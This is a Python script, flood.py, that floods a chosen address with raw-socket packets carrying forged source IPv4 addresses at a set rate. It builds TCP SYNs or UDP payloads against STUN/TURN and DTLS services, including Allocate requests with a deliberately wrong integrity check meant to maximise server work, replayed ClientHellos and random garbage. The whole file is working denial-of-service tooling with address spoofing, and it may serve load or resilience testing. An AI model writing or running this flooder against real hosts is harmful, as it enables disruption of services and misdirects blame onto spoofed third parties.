"""Sends packets with forged sources at a rate, as fast as the kernel takes them.

    flood.py KIND SOURCES ADDRESS PORT[,PORT...] RATE SECONDS [FILE]

KIND says what is in them (see KINDS), or "syn"; SOURCES is an IPv4 prefix or "everywhere". The packets are made beforehand and
leave a raw socket with sendmmsg, whose arguments are made beforehand too, so that this takes little of the machine
besides what the packets themselves take. Prints what was sent as a JSON object.
"""

import ctypes
import errno
import hashlib
import hmac
import ipaddress
import json
import os
import random
import socket
import struct
import sys
import time

# Packets made beforehand, sent over and over.
VARIETY = 8192
# A millisecond's worth at 100,000 a second.
BATCH = 100

NOT_ANYBODY = [ipaddress.ip_network(block) for block in ("0.0.0.0/8", "10.0.0.0/8", "100.64.0.0/10", "127.0.0.0/8",
               "203.0.113.0/24", "224.0.0.0/3")]


def stun(kind, attributes=b"", length=None):
    length = len(attributes) if length is None else length
    return struct.pack("!HHI", kind, length, 0x2112A442) + random.randbytes(12) + attributes


def attribute(kind, value):
    return struct.pack("!HH", kind, len(value)) + value + bytes(-len(value) % 4)


def binding(_):
    return stun(0x0001)


def allocate(_):
    """The smallest there is."""
    return stun(0x0003, attribute(0x0019, b"\x11\0\0\0"))


def forged(_):
    """An Allocate with all that a client's second one has, and a wrong integrity: it takes the server most time."""
    nonce = b"obMatJos2" + bytes(random.choices(b"abcdefghijklmnopqrstuvwxyz", k=35))
    body = attribute(0x0019, b"\x11\0\0\0") + attribute(0x0006, b"alice") + attribute(0x0014, b"example.org")
    body += attribute(0x0015, nonce)
    message = stun(0x0003, body, len(body) + 24)
    return message + attribute(0x0008, hmac.new(b"no key", message, hashlib.sha1).digest())


def garbage(_):
    """Random bytes, some of which begin like STUN, ChannelData or DTLS."""
    size = random.randrange(1, 400)
    start = random.choice((b"", b"", b"\0\x03\0\x40\x21\x12\xa4\x42", b"\x40\x01\0\x20", b"\x16\xfe\xfd", b"\x01\x01"))
    return (start + random.randbytes(size))[: max(size, 1)]


def hello(path):
    """A recorded DTLS ClientHello with another random."""
    recorded = open(path, "rb").read()
    return recorded[:27] + random.randbytes(32) + recorded[59:]


def media(_):
    return random.randbytes(1100)


KINDS = {"binding": binding, "allocate": allocate, "forged": forged, "garbage": garbage, "hello": hello, "media": media}


def source(prefix):
    """A random address."""
    while True:
        if prefix is not None:
            return int(prefix.network_address) + random.randrange(prefix.num_addresses)
        number = random.getrandbits(32)
        if not any(ipaddress.ip_address(number) in block for block in NOT_ANYBODY):
            return number


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ip_packet(protocol, sender, to, body):
    """With its checksum left to the kernel."""
    return struct.pack("!BBHHHBBHII", 0x45, 0, 20 + len(body), 0, 0, 64, protocol, 0, sender, to) + body


def udp_packet(sender, to, port, payload):
    head = struct.pack("!HHHH", random.randrange(1024, 65536), port, 8 + len(payload), 0)
    return ip_packet(socket.IPPROTO_UDP, sender, to, head + payload)


def syn(sender, to, port):
    parts = [random.randrange(1024, 65536), port, random.getrandbits(32), 0, 0x60, 0x02, 64240, 0, 0]
    options = b"\x02\x04\x05\xb4"
    pseudo = struct.pack("!IIBBH", sender, to, 0, socket.IPPROTO_TCP, 24)
    parts[7] = checksum(pseudo + struct.pack("!HHIIBBHHH", *parts) + options)
    return ip_packet(socket.IPPROTO_TCP, sender, to, struct.pack("!HHIIBBHHH", *parts) + options)


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class MessageHeader(ctypes.Structure):
    """struct msghdr"""

    _fields_ = [
        ("name", ctypes.c_void_p),
        ("name_length", ctypes.c_uint32),
        ("iovecs", ctypes.POINTER(Iovec)),
        ("iovec_count", ctypes.c_size_t),
        ("control", ctypes.c_void_p),
        ("control_length", ctypes.c_size_t),
        ("flags", ctypes.c_int),
    ]


class Message(ctypes.Structure):
    """struct mmsghdr"""

    _fields_ = [("header", MessageHeader), ("sent", ctypes.c_uint)]


class Magazine:
    """Packets in the form in which sendmmsg takes them."""

    def __init__(self, packets, address):
        self._buffers = [ctypes.create_string_buffer(packet, len(packet)) for packet in packets]
        self._iovecs = (Iovec * len(packets))()
        self._messages = (Message * len(packets))()
        name = struct.pack("=H", socket.AF_INET) + struct.pack("!H", 0) + socket.inet_aton(address) + bytes(8)
        self._name = ctypes.create_string_buffer(name, 16)
        for number, buffer in enumerate(self._buffers):
            self._iovecs[number] = Iovec(ctypes.addressof(buffer), len(buffer))
            message = self._messages[number].header
            message.name, message.name_length = ctypes.addressof(self._name), 16
            message.iovecs = ctypes.pointer(self._iovecs[number])
            message.iovec_count = 1
        self._libc = ctypes.CDLL(None, use_errno=True)
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def __len__(self):
        return len(self._buffers)

    def send(self, first, count):
        """How many of `count` from the first on the kernel took."""
        start = ctypes.byref(self._messages, first * ctypes.sizeof(Message))
        took = self._libc.sendmmsg(self._socket.fileno(), start, count, 0)
        if took < 0 and ctypes.get_errno() not in (errno.ENOBUFS, errno.EAGAIN):
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return max(took, 0)


def main(kind, sources, address, ports, rate, seconds, path=None):
    random.seed(os.urandom(16))
    prefix = None if sources == "everywhere" else ipaddress.ip_network(sources)
    to, rate, seconds = int(ipaddress.ip_address(address)), int(rate), float(seconds)
    ports = [int(port) for port in ports.split(",")]
    packets = []
    for _ in range(VARIETY):
        sender, port = source(prefix), random.choice(ports)
        packet = syn(sender, to, port) if kind == "syn" else udp_packet(sender, to, port, KINDS[kind](path))
        packets.append(packet)
    magazine = Magazine(packets, address)
    print(json.dumps({"ready": True}), flush=True)
    sys.stdin.readline()
    began = now = time.monotonic()
    sent, place, due = 0, 0, 0.0
    while now - began < seconds:
        last, now = now, time.monotonic()
        # What is late is made up for, but for no more than a hundredth of a second: pauses are not followed by bursts.
        due = min(due + (now - last) * rate, max(rate / 100, BATCH))
        if due < min(BATCH, rate / 100):
            time.sleep(0.0003)
            continue
        count = min(int(due), BATCH, len(magazine) - place)
        took = magazine.send(place, count)
        sent += took
        due -= count
        place = (place + took) % len(magazine)
    print(json.dumps({"sent": sent, "seconds": time.monotonic() - began}), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
